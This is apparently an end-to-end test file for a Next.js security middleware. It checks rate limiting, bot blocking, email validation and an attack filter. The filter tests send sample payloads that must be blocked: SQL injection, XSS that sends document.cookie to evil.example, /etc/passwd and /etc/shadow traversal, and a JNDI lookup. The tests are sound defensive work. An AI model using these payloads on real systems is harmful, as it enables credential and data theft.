// End to end: the example Next.js 16 app, built and started with `palisade-next start`, answering
// real HTTP requests. scripts/test.mjs builds the package and the app before this runs; run alone,
// this file builds them itself if they are missing.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { appDir, appIsBuilt, buildPackage, prepareApp, startApp } from '../../scripts/lib/example-app.mjs';
import { ptrName, startDnsServer } from '../helpers/dns-server.mjs';

let app;
let dns;
before(async () => {
  if (!appIsBuilt()) {
    buildPackage({ release: false });
    prepareApp();
  }
  // The app's MX checks ask this loopback server, never the internet.
  dns = await startDnsServer({
    'example.com.': { MX: [[10, 'mail.example.com.']] },
    'mail.example.com.': { A: ['192.0.2.10'] },
    'nullmx.test.': { MX: [[0, '.']], A: ['192.0.2.50'] },
    'aonly.test.': { A: ['192.0.2.20'] },
    // A Googlebot outside the shipped address blocks, confirmed by reverse and forward DNS.
    [ptrName('34.100.1.1')]: { PTR: ['crawl-34-100-1-1.googlebot.com.'] },
    'crawl-34-100-1-1.googlebot.com.': { A: ['34.100.1.1'] },
  });
  app = await startApp({ env: { PALISADE_DNS: dns.address } });
});
after(async () => {
  app?.stop();
  await dns?.close();
});

let clientNo = 0;
/** A distinct public client address per test, as a trusted load balancer would report it. */
const client = () => `45.${process.pid & 255}.${(++clientNo >> 8) & 255}.${clientNo & 255}`;
const get = (p, ip, headers = {}) => fetch(`${app.url}${p}`, { headers: { 'x-forwarded-for': ip, ...headers } });

test('proxy.ts answers 429 with Retry-After and RateLimit headers past the limit, others get 200', async () => {
  const ip = client();
  for (let i = 0; i < 5; i++) {
    const res = await get('/api/hello', ip);
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('ratelimit'), `"palisade";r=${4 - i};t=60`);
    await res.arrayBuffer();
  }
  const denied = await get('/api/hello', ip);
  assert.equal(denied.status, 429);
  const retry = Number(denied.headers.get('retry-after'));
  assert.ok(Number.isInteger(retry) && retry >= 1 && retry <= 60, `Retry-After ${retry}`);
  assert.equal(denied.headers.get('ratelimit-policy'), '"palisade";q=5;w=60');
  assert.match(denied.headers.get('ratelimit'), /^"palisade";r=0;t=\d+$/);
  const body = await denied.json();
  assert.equal(body.reason, 'RATE_LIMIT');
  assert.match(body.id, /^pal_/);
  const other = await get('/api/hello', client());
  assert.equal(other.status, 200);
  assert.deepEqual(await other.json(), { hello: 'world' });
});

test('one limit is shared by proxy.ts and a route handler in one process', async () => {
  const ip = client();
  for (let i = 0; i < 3; i++) assert.equal((await get('/api/hello', ip)).status, 200);
  assert.equal((await get('/api/shared', ip)).status, 200);
  assert.equal((await get('/api/shared', ip)).status, 200);
  assert.equal((await get('/api/shared', ip)).status, 429, 'the route sees the requests the proxy counted');
  assert.equal((await get('/api/hello', ip)).status, 429, 'and the proxy sees the route\'s');
});

test('regression_xff_spoofing a client-chosen X-Forwarded-For is ignored when no proxy is trusted', async () => {
  const statuses = [];
  for (let i = 0; i < 5; i++) {
    // A new claimed address every time: with the peer known and no trusted proxy, none is believed.
    const res = await get('/api/strict', `${100 + i}.1.2.3`);
    statuses.push(res.status);
    await res.arrayBuffer();
  }
  assert.deepEqual(statuses, [200, 200, 200, 429, 429]);
});

test('a DRY_RUN limit reports DENY but never denies', async () => {
  const ip = client();
  const bodies = [];
  for (let i = 0; i < 4; i++) {
    const res = await get('/api/dry', ip);
    assert.equal(res.status, 200);
    bodies.push(await res.json());
  }
  assert.deepEqual(bodies[0], { conclusion: 'ALLOW', ruleConclusion: 'ALLOW', ruleState: 'DRY_RUN' });
  for (const b of bodies.slice(1)) assert.deepEqual(b, { conclusion: 'ALLOW', ruleConclusion: 'DENY', ruleState: 'DRY_RUN' });
});

test('a server action is rate limited per client', async () => {
  const manifest = JSON.parse(readFileSync(path.join(appDir, '.next', 'server', 'server-reference-manifest.json'), 'utf8'));
  const actionId = Object.keys(manifest.node ?? {})[0];
  assert.ok(actionId, 'the build produced a server action');
  const ip = client();
  const call = async () => {
    const res = await fetch(`${app.url}/`, {
      method: 'POST',
      headers: { 'Next-Action': actionId, 'Content-Type': 'text/plain;charset=UTF-8', Accept: 'text/x-component', 'x-forwarded-for': ip },
      body: JSON.stringify(['', null]),
    });
    assert.equal(res.status, 200);
    return res.text();
  };
  assert.match(await call(), /Sent:/);
  assert.match(await call(), /Sent:/);
  assert.match(await call(), /Slow down: try again in \d+ s\./);
  const other = await fetch(`${app.url}/`, {
    method: 'POST',
    headers: { 'Next-Action': actionId, 'Content-Type': 'text/plain;charset=UTF-8', Accept: 'text/x-component', 'x-forwarded-for': client() },
    body: JSON.stringify(['', null]),
  });
  assert.match(await other.text(), /Sent:/);
});

test('malformed forwarding headers still get an answer, never a 500', async () => {
  for (const xff of ['unknown', ',,,', '[::1', '999.1.1.1', '\u00ff'.repeat(10), 'x'.repeat(6000)]) {
    const res = await fetch(`${app.url}/api/hello`, { headers: { 'x-forwarded-for': xff } });
    assert.ok([200, 429].includes(res.status), `${xff.slice(0, 20)} -> ${res.status}`);
    await res.arrayBuffer();
  }
  assert.ok(existsSync(path.join(appDir, '.next', 'BUILD_ID')));
});

const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

test('bots: AI crawlers, scanners and HTTP libraries are denied; people and verified search engines pass', async () => {
  const cases = [
    ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)', client(), 403],
    ['Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)', client(), 403],
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', client(), 403],
    ['python-requests/2.31.0', client(), 403],
    ['curl/8.4.0', client(), 403],
    [CHROME, client(), 200],
    [GOOGLEBOT, '66.249.66.1', 200],
    [GOOGLEBOT, '34.100.1.1', 200],
    [GOOGLEBOT, client(), 403],
  ];
  for (const [ua, ip, status] of cases) {
    const res = await fetch(`${app.url}/api/content`, { headers: { 'user-agent': ua, 'x-forwarded-for': ip } });
    assert.equal(res.status, status, `${ua} from ${ip}`);
    const body = await res.json();
    if (status === 403) assert.equal(body.reason, 'BOT');
  }
  assert.ok(dns.queries.some((q) => q.name === ptrName('34.100.1.1')), 'the app verified the crawler by reverse DNS');
});

test('signup: a real address passes and the handler still reads the body; disposable, invalid and scripted signups are denied', async () => {
  const post = (email, ua = CHROME, ip = client()) =>
    fetch(`${app.url}/api/signup`, { method: 'POST', headers: { 'content-type': 'application/json', 'user-agent': ua, 'x-forwarded-for': ip }, body: JSON.stringify({ email }) });
  const ok = await post('ada@example.com');
  assert.equal(ok.status, 200);
  assert.deepEqual(await ok.json(), { welcome: 'ada@example.com' });
  const disposable = await post('x@0-mail.com');
  assert.equal(disposable.status, 403);
  assert.equal((await disposable.json()).reason, 'EMAIL');
  assert.equal((await post('not-an-address')).status, 403);
  assert.equal((await post('ada@example.com', 'python-requests/2.31.0')).status, 403);
  const ip = client();
  const statuses = [];
  for (let i = 0; i < 4; i++) statuses.push((await post(`user${i}@example.com`, CHROME, ip)).status);
  assert.deepEqual(statuses, [200, 200, 200, 429]);
});

/** Reads a page's form like a browser without JavaScript: every named input with its value. */
function formFields(html, marker) {
  const form = (html.match(/<form[\s\S]*?<\/form>/g) ?? []).find((f) => f.includes(marker));
  assert.ok(form, `a form containing ${marker}`);
  const unescape = (s) => s.replace(/&quot;/g, '"').replace(/&#x27;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
  const fields = [];
  for (const tag of form.match(/<input\b[^>]*>/g) ?? []) {
    const name = tag.match(/\bname="([^"]*)"/)?.[1];
    if (name) fields.push([unescape(name), unescape(tag.match(/\bvalue="([^"]*)"/)?.[1] ?? '')]);
  }
  return fields;
}

test('signup form: the server action posted as a real multipart form accepts a real address and refuses bad ones', async () => {
  const page = await (await get('/signup', client(), { 'user-agent': CHROME })).text();
  const submit = async (email, ip = client()) => {
    const form = new FormData();
    for (const [name, value] of formFields(page, '$ACTION_')) form.append(name, name === 'email' ? email : value);
    const res = await fetch(`${app.url}/signup`, { method: 'POST', body: form, headers: { 'user-agent': CHROME, 'x-forwarded-for': ip } });
    assert.equal(res.status, 200);
    return (await res.text()).match(/<p role="status"[^>]*>([^<]*)<\/p>/)?.[1] ?? '';
  };
  assert.equal(await submit('Ada@Example.COM'), 'Welcome, Ada@example.com!');
  assert.match(await submit('x@0-mail.com'), /Signup refused \(email: .*DISPOSABLE/);
  assert.match(await submit('ada@gmial.com'), /did you mean ada@gmail\.com\?/);
  assert.match(await submit('jo@nullmx.test'), /Signup refused \(email: NO_MX_RECORDS\)/);
  assert.match(await submit('not an address'), /Signup refused \(email: INVALID\)/);
  const ip = client();
  const seen = [];
  for (let i = 0; i < 4; i++) seen.push(await submit(`user${i}@example.com`, ip));
  assert.deepEqual(seen.slice(0, 3), ['Welcome, user0@example.com!', 'Welcome, user1@example.com!', 'Welcome, user2@example.com!']);
  assert.match(seen[3], /Too many signups: try again in \d+ s\./);
});

test('signup form: the route handler takes urlencoded and multipart posts, checks MX on loopback DNS, and still reads the body', async () => {
  const post = (body, ip = client(), ua = CHROME) => fetch(`${app.url}/api/signup`, { method: 'POST', body, headers: { 'user-agent': ua, 'x-forwarded-for': ip } });
  const urlencoded = await post(new URLSearchParams({ email: 'ada@example.com' }));
  assert.equal(urlencoded.status, 200);
  assert.deepEqual(await urlencoded.json(), { welcome: 'ada@example.com' });
  const multipart = new FormData();
  multipart.append('email', 'grace@aonly.test');
  const mp = await post(multipart);
  assert.equal(mp.status, 200, 'an A record is the implicit MX');
  assert.deepEqual(await mp.json(), { welcome: 'grace@aonly.test' });
  const nullMx = await post(new URLSearchParams({ email: 'jo@nullmx.test' }));
  assert.equal(nullMx.status, 403);
  assert.equal((await nullMx.json()).reason, 'EMAIL');
  assert.equal((await post(new URLSearchParams({ email: 'jo@unknown-domain.test' }))).status, 403);
  assert.equal((await post(new URLSearchParams({ email: 'ada@example.com' }), client(), 'curl/8.4.0')).status, 403);
  assert.equal((await post('%%%not a form')).status, 403, 'a body without an address is INVALID');
  assert.ok(dns.queries.some((q) => q.name === 'nullmx.test.'), 'the app asked the loopback DNS server');
});

test('shield: attacks in the query, a JSON body, a form body or a cookie are denied; benign ones pass and the handler reads the body', async () => {
  const url = `${app.url}/api/comments`;
  const send = (init, ip = client()) => fetch(url + (init.q ?? ''), { method: init.method ?? 'GET', body: init.body, headers: { 'user-agent': CHROME, 'x-forwarded-for': ip, ...(init.headers ?? {}) } });
  const denied = async (init, location) => {
    const res = await send(init);
    assert.equal(res.status, 403, JSON.stringify(init).slice(0, 100));
    assert.equal((await res.json()).reason, 'SHIELD');
    return location;
  };
  await denied({ q: `?q=${encodeURIComponent("1' UNION SELECT password FROM users--")}` });
  await denied({ method: 'POST', body: JSON.stringify({ comment: { text: '<script>fetch("//evil.example/"+document.cookie)</script>' } }), headers: { 'content-type': 'application/json' } });
  await denied({ method: 'POST', body: new URLSearchParams({ file: '../../../../etc/passwd' }) });
  await denied({ headers: { cookie: `session=abc; pref=${encodeURIComponent('${jndi:ldap://evil.example/a}')}` } });
  const benign = { author: "Siobhán O'Connor", text: 'Workers\' Union (MMWS) said "it\'s fine" -- see item #12; 5 > 3' };
  const ok = await send({ method: 'POST', body: JSON.stringify(benign), headers: { 'content-type': 'application/json' } });
  assert.equal(ok.status, 200);
  assert.deepEqual((await ok.json()).saved, benign, 'the handler read the whole body');
  const form = await send({ method: 'POST', body: new URLSearchParams({ name: "D'Arcy", msg: 'SELECT your size; from S to XL' }) });
  assert.equal(form.status, 200);
  assert.equal((await form.json()).saved.name, "D'Arcy");
  assert.equal((await send({ q: '?q=red+shoes', headers: { accept: 'image/*;q=0.8', cookie: 'theme=dark' } })).status, 200);
});

test('shield: a client who keeps attacking is blocked even for clean requests, with a Retry-After until the block expires', async () => {
  const ip = client();
  const get = (q) => fetch(`${app.url}/api/comments?q=${encodeURIComponent(q)}`, { headers: { 'user-agent': CHROME, 'x-forwarded-for': ip } });
  assert.equal((await get('hello')).status, 200);
  for (const attack of ['<svg onload=alert(1)>', "' OR 1=1--", '../../etc/shadow']) assert.equal((await get(attack)).status, 403);
  const blocked = await get('hello');
  assert.equal(blocked.status, 403);
  const body = await blocked.json();
  assert.equal(body.blocked, true);
  const retry = Number(blocked.headers.get('retry-after'));
  assert.ok(retry > 0 && retry <= 600, `Retry-After ${retry}`);
  const other = await fetch(`${app.url}/api/comments?q=hello`, { headers: { 'user-agent': CHROME, 'x-forwarded-for': client() } });
  assert.equal(other.status, 200, 'other clients are not affected');
});
